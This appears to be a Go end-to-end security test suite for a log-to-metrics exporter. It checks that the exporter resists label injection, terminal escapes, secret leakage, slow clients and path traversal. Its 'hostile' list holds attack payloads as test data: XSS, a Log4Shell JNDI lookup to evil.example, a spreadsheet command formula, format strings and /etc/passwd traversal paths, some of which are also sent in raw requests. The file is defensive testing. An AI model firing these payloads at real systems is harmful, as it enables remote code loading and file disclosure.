//go:build linux

package e2e

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"mime"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/prometheus/prometheus/model/labels"
	"github.com/prometheus/prometheus/model/textparse"
	"golang.org/x/crypto/bcrypt"

	"github.com/darkshare/darkshare/exporter/accesslog"
	"github.com/darkshare/darkshare/exporter/history"
	"github.com/darkshare/darkshare/exporter/schema"
)

// hostile are values of a request that cost whoever believes them: what ends a label, a
// line or a terminal's patience, what is no text, what is endless.
var hostile = []string{
	`"} evil_metric{a="b`, `",evil="1`, `\",evil=\"1`, `\`, `evil_metric 1`, `# TYPE evil_metric counter`,
	"\x1b[2J\x1b]0;evil\x07", "\u009b31mevil", `\x1b[31mevil`, `\u001b[31mevil`, `#1Bevil`, "%1b%5b2J%0aevil_metric%201", "\r", "\x7f", "\x00", "\x08\x08",
	"\u202elive\u202c", "\u200b\ufeff", "\u2028\u2029", "\xff\xfe\xc3\x28", "\xed\xa0\x80", "\xf4\x90\x80\x80",
	"<script>evil()</script>", `"><img src=x onerror=evil()>`, "{{.}}", "${jndi:ldap://evil.example/}", "%s%n", "=cmd|'/C evil'!A0",
	"(other)", "../../../../etc/passwd", "|", " ", "\t", "{", "}", "[]", strings.Repeat("A", 40_000), strings.Repeat("/a", 3000), strings.Repeat("%41", 5000), strings.Repeat("\u00e9", 5000),
}

// attack returns requests whose every value is hostile, by visitors who show themselves as
// browsers, so that what they ask for has the best chance to become a label.
func attack(from time.Time) (all []record) {
	const agent = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36"
	usual := record{user: "-", host: "shop.example", target: "/", status: "200", referer: "-", agent: agent, cookie: "-"}
	n := 0
	visit := func(change func(*record)) {
		r := usual
		r.at, r.client = from.Add(time.Duration(n)*100*time.Millisecond), fmt.Sprintf("10.0.%d.%d", n/250, n%250)
		change(&r)
		all = append(all, r)
		r.at, r.referer, r.target = r.at.Add(50*time.Millisecond), "https://"+r.host+r.target, "/style.css"
		all = append(all, r)
		n++
	}
	for _, v := range hostile {
		times := 4
		if len(v) > 1000 {
			times = 1
		}
		for range times {
			visit(func(r *record) { r.target = "/" + v })
			visit(func(r *record) { r.target = "/" + v + "/x?utm_source=" + v + "&" + v + "=" + v })
			visit(func(r *record) { r.host = v + ".example" })
			visit(func(r *record) { r.host = v })
			visit(func(r *record) { r.referer = "https://" + v + "/" })
			visit(func(r *record) { r.referer = v })
			visit(func(r *record) { r.agent += " " + v })
			visit(func(r *record) { r.user, r.cookie, r.agent = v, v, v })
			visit(func(r *record) { r.status = v })
			visit(func(r *record) { r.client = v })
		}
	}
	return all
}

// printable checks that a text has nothing that a terminal would act on, or that turns
// what is read around.
func printable(t *testing.T, where string, text []byte) {
	t.Helper()
	for i := 0; i < len(text); {
		r, n := utf8.DecodeRune(text[i:])
		if r == utf8.RuneError && n == 1 || r != '\n' && r != '\t' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r) || r == '\u2028' || r == '\u2029') {
			t.Errorf("%s has %q: …%q…", where, r, text[max(0, i-100):min(len(text), i+50)])
			return
		}
		i += n
	}
}

// TestHostileLines: no line of any format makes a series, a label or a label's value that
// should not be, /metrics stays readable in each of its forms, and neither the log nor what
// the commands print has anything in it that a terminal acts on.
func TestHostileLines(t *testing.T) {
	t.Parallel()
	dir, lines := t.TempDir(), 0
	requests := attack(time.Now().Add(-4 * time.Minute))
	var inputs strings.Builder
	logs := map[string]string{} // by the flag that says their format
	for _, name := range accesslog.Names() {
		var log bytes.Buffer
		for _, r := range requests {
			log.WriteString(r.in(t, name) + "\n")
		}
		format, flag := fmt.Sprintf("format: %s, ", name), "--format="+name
		if name == "darkshare" { // has that name where it is told from the lines only
			format, flag = "", "--site=shop.example"
		}
		lines += bytes.Count(log.Bytes(), []byte("\n"))
		logs[flag] = write(t, filepath.Join(dir, name+".log"), log.String())
		fmt.Fprintf(&inputs, "- {name: %s, %sfiles: [%q], start_at: beginning}\n", name, format, logs[flag])
	}
	const sites, pages, sections = 5, 10, 3
	conf := write(t, filepath.Join(dir, "darkshare.yaml"), fmt.Sprintf("inputs:\n%slimits: {sites: %d, pages: %d, sections: %d}\nlog: {level: debug}\n", &inputs, sites, pages, sections))
	p := begin(t, nil, "--config", conf)
	p.holds(lines)

	names := map[string]*schema.Metric{}
	for _, m := range schema.Metrics {
		names[m.Name] = m
	}
	values := map[string]map[string]bool{} // of a label, and of pages and sections by site
	for _, s := range scrape(t, p.addr) {
		m := names[s.name]
		if m == nil {
			if strings.HasPrefix(s.name, "darkshare_") && !strings.HasPrefix(s.name, "darkshare_otlp_") || strings.Contains(s.name, "evil") {
				t.Errorf("the metric %s", s.name)
			}
			continue
		}
		for label, value := range s.labels {
			if !slices.Contains(m.Labels, label) {
				t.Errorf("%s has the label %s", s.name, label)
			}
			if len(value) > 253 {
				t.Errorf("%s=%q", label, value)
			}
			printable(t, label, []byte(value))
			if label == schema.LabelPage || label == schema.LabelSection {
				label += " of " + s.labels[schema.LabelSite]
			}
			if values[label] == nil {
				values[label] = map[string]bool{}
			}
			values[label][value] = true
		}
	}
	if len(values["site"]) < 2 {
		t.Errorf("sites: %v", values["site"])
	}
	for label, of := range values {
		most := map[string]int{schema.LabelSite: sites + 1, schema.LabelInput: len(logs), schema.LabelSource: 200, schema.LabelApp: 200}[label]
		switch {
		case strings.HasPrefix(label, schema.LabelPage):
			most = pages + 1
		case strings.HasPrefix(label, schema.LabelSection):
			most = sections + 1
		case most == 0:
			most = 12
		}
		if len(of) > most {
			t.Errorf("%s has %d values: %v", label, len(of), of)
		}
		if label == schema.LabelSource || label == schema.LabelApp {
			for value := range of {
				if !regexp.MustCompile(`^[a-z0-9_]+$`).MatchString(value) || strings.Contains(value, "evil") {
					t.Errorf("%s=%q", label, value)
				}
			}
		}
	}
	for _, accept := range []string{
		"text/plain; version=0.0.4", "text/plain; version=1.0.0; escaping=allow-utf-8", "application/openmetrics-text; version=1.0.0",
		"application/vnd.google.protobuf; proto=io.prometheus.client.MetricFamily; encoding=delimited",
	} {
		if n := parsed(t, p.addr, accept); n < 100 {
			t.Errorf("%s: %d samples", accept, n)
		}
	}
	s := &seen{}
	s.get(t, p.addr, "/")
	page := s.text["/"]
	if i := bytes.Index(page, []byte("evil()")); i >= 0 && bytes.LastIndexByte(page[:i], '<') > bytes.LastIndex(page[:i], []byte("&lt;")) {
		t.Errorf("the page has %q", page[max(0, i-50):i+50])
	}
	printable(t, "the page", page)
	printable(t, "the log", []byte(p.errs.String()))

	for flag, log := range logs {
		for _, args := range [][]string{{"explain", flag, log}, {"replay", flag, "--top=1000", log}} {
			out, err := exec.Command(tested(), args...).CombinedOutput()
			if err != nil || len(out) == 0 {
				t.Errorf("%s: %v: %s", args, err, out)
			}
			printable(t, strings.Join(args[:2], " "), out)
		}
		out, _ := exec.Command(tested(), "check", "--log", log).CombinedOutput()
		printable(t, "check "+flag, out)
	}
}

// parsed reads /metrics as Prometheus does, and returns how many samples it has.
func parsed(t *testing.T, addr, accept string) (n int) {
	t.Helper()
	r, err := http.NewRequest(http.MethodGet, "http://"+addr+"/metrics", nil)
	if err != nil {
		t.Fatal(err)
	}
	r.Header.Set("Accept", accept)
	answer, err := http.DefaultClient.Do(r)
	if err != nil {
		t.Fatal(err)
	}
	defer answer.Body.Close()
	body, err := io.ReadAll(answer.Body)
	if err != nil {
		t.Fatal(err)
	}
	if want, _, _ := mime.ParseMediaType(accept); !strings.HasPrefix(answer.Header.Get("Content-Type"), want) {
		t.Errorf("%s is answered by %s", accept, answer.Header.Get("Content-Type"))
	}
	parser, err := textparse.New(body, answer.Header.Get("Content-Type"), labels.NewSymbolTable(), textparse.ParserOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for {
		switch entry, err := parser.Next(); {
		case err == io.EOF:
			return n
		case err != nil:
			t.Errorf("%s: %v", accept, err)
			return n
		case entry == textparse.EntrySeries:
			n++
		}
	}
}

// TestLoopbackByDefault: who does not say otherwise listens for records on the loopback
// interface alone.
func TestLoopbackByDefault(t *testing.T) {
	t.Parallel()
	port := func() string { _, port, _ := net.SplitHostPort(free(t)); return port }
	udp, tcp, envoy, otlpGRPC, otlpHTTP := port(), port(), port(), port(), port()
	conf := write(t, filepath.Join(t.TempDir(), "darkshare.yaml"), fmt.Sprintf(`
inputs:
- {name: udp, syslog: {listen: "udp://:%s"}}
- {name: tcp, syslog: {listen: "tcp://:%s"}}
- {name: envoy, envoy_als: {listen: ":%s"}}
- {name: otlp, otlp: {grpc: ":%s", http: ":%s"}}
`, udp, tcp, envoy, otlpGRPC, otlpHTTP))
	p := begin(t, nil, "--config", conf)
	await(t, "all inputs are up", func() bool { return p.sums()["darkshare_input_up"] == 4 })
	if !bound("udp", "127.0.0.1:"+udp, "07") {
		t.Error("syslog by UDP is not on the loopback interface")
	}
	for _, port := range []string{tcp, envoy, otlpGRPC, otlpHTTP} {
		if !bound("tcp", "127.0.0.1:"+port, "0A") {
			t.Errorf("port %s is not on the loopback interface", port)
		}
	}
}

// TestSlowClients: a hundred clients that begin and never go on, at every listener, hold up
// nobody else there.
func TestSlowClients(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	syslog, envoy, otlp, otlpGRPC := free(t), free(t), free(t), free(t)
	conf := write(t, filepath.Join(dir, "darkshare.yaml"), fmt.Sprintf(`
inputs:
- {name: syslog, format: combined, site: shop, syslog: {listen: "tcp://%s"}}
- {name: envoy, envoy_als: {listen: "%s"}}
- {name: otlp, otlp: {http: "%s", grpc: "%s"}}
sites: [{name: shop, hosts: [shop.example]}]
`, syslog, envoy, otlp, otlpGRPC))
	p := begin(t, nil, "--config", conf)
	await(t, "all inputs are up", func() bool { return p.sums()["darkshare_input_up"] == 3 })
	const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00"
	for addr, beginnings := range map[string][]string{
		syslog:   {"", "<190>", "1000 <190>Nov", "10.0.0.1 - -"},
		envoy:    {"", preface[:10], preface, preface + "\x00\x01\x00\x01"},
		otlpGRPC: {"", preface[:10], preface, preface + "\x00\x01\x00\x01"},
		otlp:     {"", "POST /v1", "POST /v1/logs HTTP/1.1\r\nHost: x\r\nX-", "GET / HTTP/1.1\r\nHost: x\r\n"},
		p.addr:   {"", "GET /me", "GET /metrics HTTP/1.1\r\nHost: x\r\nX-", "POST /-/reload HTTP/1.1\r\nHost: x\r\nContent-Length: 9\r\n"},
	} {
		for i := range 100 {
			c, err := net.Dial("tcp", addr)
			if err != nil {
				t.Fatal(err)
			}
			defer c.Close()
			fmt.Fprint(c, beginnings[i%len(beginnings)])
		}
	}
	begun := time.Now()
	requests := people(time.Now())[:30]
	lines := sendSyslog(t, syslog, requests) + sendOTLP(t, otlp, requests) + sendALS(t, envoy, requests)
	p.holds(lines)
	// The slow ones are given up after ten seconds at the earliest.
	if took := time.Since(begun); took > 9*time.Second {
		t.Errorf("what others sent was counted after %v", took)
	}
}

// TestSecretsStayInside: passwords, tokens and keys of the configuration and of the
// environment are in no log, error, page or answer, however much goes wrong with them.
func TestSecretsStayInside(t *testing.T) {
	t.Parallel()
	const secret = "hunter2-hunter2-hunter2-hunter2!"
	dir, nobody := t.TempDir(), free(t)
	file := func(name string) string { return write(t, filepath.Join(dir, name), secret+"\n") }
	hash, err := bcrypt.GenerateFromPassword([]byte(secret), bcrypt.MinCost)
	if err != nil {
		t.Fatal(err)
	}
	web := write(t, filepath.Join(dir, "web.yaml"), fmt.Sprintf("basic_auth_users: {prom: %q}\n", hash))
	inputs := fmt.Sprintf(`inputs:
- {name: kafka, kafka: {brokers: [%q], topic: access, tls: {cert_file: %[2]q, key_file: %[2]q}, sasl: {mechanism: scram-sha-512, username: me, password_file: %[3]q}}}
- {name: syslog, syslog: {listen: "tls://%[4]s", tls: {cert_file: %[2]q, key_file: %[2]q, client_ca_file: %[2]q}}}
- {name: envoy, envoy_als: {listen: %[5]q, tls: {cert_file: %[2]q, key_file: %[2]q}}}
log: {level: debug}
`, nobody, file("key.pem"), file("password"), free(t), free(t))
	conf := filepath.Join(dir, "darkshare.yaml")
	write(t, conf, inputs+fmt.Sprintf("store: {dir: %q}\n", filepath.Join(dir, "store")))
	env := append(pushing("http://me:"+secret+"@"+nobody), "OTEL_EXPORTER_OTLP_HEADERS=authorization=Bearer%20"+secret+",x-token="+secret)
	addr := free(t)
	p := launch(t, env, addr, tested(), "serve", "--config", conf, "--web.config.file", web, "--web.listen-address", addr)
	s := &seen{}
	ask := func(method, path, password string) (status int) {
		t.Helper()
		r, err := http.NewRequest(method, "http://"+addr+path, nil)
		if err != nil {
			t.Fatal(err)
		}
		r.SetBasicAuth("prom", password)
		answer, err := http.DefaultClient.Do(r)
		if err != nil {
			return 0
		}
		defer answer.Body.Close()
		body, _ := io.ReadAll(answer.Body)
		s.add(path, append(fmt.Append(nil, answer.Header), body...))
		return answer.StatusCode
	}
	await(t, "darkshare is ready", func() bool { return ask("GET", "/-/ready", secret) == http.StatusOK })
	if got := ask("GET", "/metrics", "wrong"); got != http.StatusUnauthorized {
		t.Errorf("with a wrong password: %d", got)
	}
	for _, listener := range regexp.MustCompile(`127\.0\.0\.1:\d+`).FindAllString(inputs, -1)[1:] {
		c, err := net.Dial("tcp", listener)
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprint(c, "\x16\x03\x01\x00\x05hello")
		defer c.Close()
	}
	await(t, "a push has failed", func() bool { return strings.Contains(p.errs.String(), "OTLP push failed") })
	await(t, "Kafka has failed", func() bool { return strings.Contains(p.errs.String(), "broker") })
	for _, path := range []string{
		"/", "/metrics", "/api/v1/status/config", "/api/v1/status/flags", "/api/v1/status/runtimeinfo", "/api/v1/status/buildinfo", "/api/v1/targets", "/api/v1/rules",
		"/config", "/-/config", "/debug/pprof/", "/debug/pprof/cmdline", "/debug/vars", "/-/nothing", "/api/v1/query?query=" + url.QueryEscape("{"),
	} {
		status := ask("GET", path, secret)
		if strings.Contains(path, "config") || strings.Contains(path, "debug") || strings.HasSuffix(path, "flags") {
			if status != http.StatusNotFound {
				t.Errorf("%s: %d", path, status)
			}
		}
	}
	// Passwords that are written into the configuration, where they do not belong, or in its place.
	for _, mistake := range []string{
		"forward: {kafka: {sasl: {password: " + secret + "}}}\n", "inputs: [{kafka: {sasl: {mechanism: plain, password: " + secret + "}}}]\n",
		"password: [" + secret + "\n", "- " + secret + "\n",
	} {
		write(t, conf, mistake)
		if status := ask("POST", "/-/reload", secret); status != http.StatusInternalServerError {
			t.Errorf("reloaded %q: %d", mistake, status)
		}
	}
	for _, args := range [][]string{
		{"replay", "--remote-write", "http://me:" + secret + "@" + nobody + "/write", "--state", filepath.Join(dir, "state"), filepath.Join(root, "testdata", "example.log")},
		{"replay", "--remote-write", "http://me:" + secret + "@ nowhere/", "--state", filepath.Join(dir, "state"), filepath.Join(root, "testdata", "example.log")},
	} {
		out, err := exec.CommandContext(within(t, 8*time.Second), tested(), args...).CombinedOutput()
		if err == nil || len(out) == 0 {
			t.Errorf("%s: %s", args, out)
		}
		s.add("replay", out)
	}
	s.add("the log", []byte(p.errs.String()))
	for where, text := range s.text {
		for _, what := range []string{secret, url.QueryEscape(secret), string(hash), "hunter2"} {
			if i := bytes.Index(text, []byte(what)); i >= 0 {
				t.Errorf("%s has a secret: …%q…", where, text[max(0, i-200):min(len(text), i+60)])
				break
			}
		}
	}
}

// TestPathsStayInside: what the configuration names is where darkshare writes, and no
// address of a request names a file.
func TestPathsStayInside(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	precious := write(t, filepath.Join(dir, "precious"), "precious\n")
	data := filepath.Join(dir, "data")
	if err := os.Mkdir(data, 0o700); err != nil {
		t.Fatal(err)
	}
	// Whoever writes to the log's directory names a file of somebody else's.
	if err := os.Symlink(precious, filepath.Join(data, "access.log")); err != nil {
		t.Fatal(err)
	}
	socket := write(t, filepath.Join(data, "socket"), "no socket\n")
	conf := write(t, filepath.Join(data, "darkshare.yaml"), fmt.Sprintf(
		"inputs:\n- {name: log, files: [access.log], format: combined, start_at: beginning}\n- {name: socket, syslog: {listen: \"unix://%s\"}}\nstore: {dir: store}\nlog: {level: debug}\n", socket))
	before := tree(t, dir)
	p := begin(t, nil, "--config", conf)
	await(t, "the line is counted", func() bool { return p.sums()["darkshare_log_lines_total"] == 1 })
	for _, path := range []string{
		"/../../../../etc/passwd", "/..%2f..%2f..%2fetc%2fpasswd", "/api/v1/label/..%2f..%2f..%2fetc%2fpasswd/values", "/api/v1/../../precious", "/%2e%2e/precious", "/precious", "//etc/passwd",
	} {
		c, err := net.Dial("tcp", p.addr)
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", path)
		answer, _ := io.ReadAll(c)
		c.Close()
		if bytes.Contains(answer, []byte("root:")) || bytes.Contains(answer, []byte("precious\n")) {
			t.Errorf("%s: %s", path, answer)
		}
	}
	if strings.Contains(p.errs.String(), "precious\\n") || strings.Contains(p.errs.String(), "precious\"") {
		t.Errorf("the log has a file's text: %s", p.errs)
	}
	p.signal(os.Interrupt)
	_ = p.cmd.Wait()
	for path, text := range tree(t, dir) {
		rel, _ := filepath.Rel(dir, path)
		if old, ok := before[path]; ok && old != text {
			t.Errorf("%s was changed", rel)
		} else if !ok && !strings.HasPrefix(rel, "data/store/") {
			t.Errorf("%s was made", rel)
		}
	}
	for _, name := range []string{history.StateFile, "wal/00000000"} {
		if info, err := os.Stat(filepath.Join(data, "store", name)); err != nil {
			t.Error(err)
		} else if name == history.StateFile && info.Mode().Perm() != 0o600 {
			t.Errorf("%s can be read by others: %v", name, info.Mode())
		}
	}
}

// within is a context that ends after that time.
func within(t *testing.T, d time.Duration) context.Context {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), d)
	t.Cleanup(cancel)
	return ctx
}

// tree returns the files below a directory and what is in them.
func tree(t *testing.T, dir string) map[string]string {
	t.Helper()
	files := map[string]string{}
	err := filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		text, err := os.ReadFile(path)
		files[path] = string(text)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return files
}
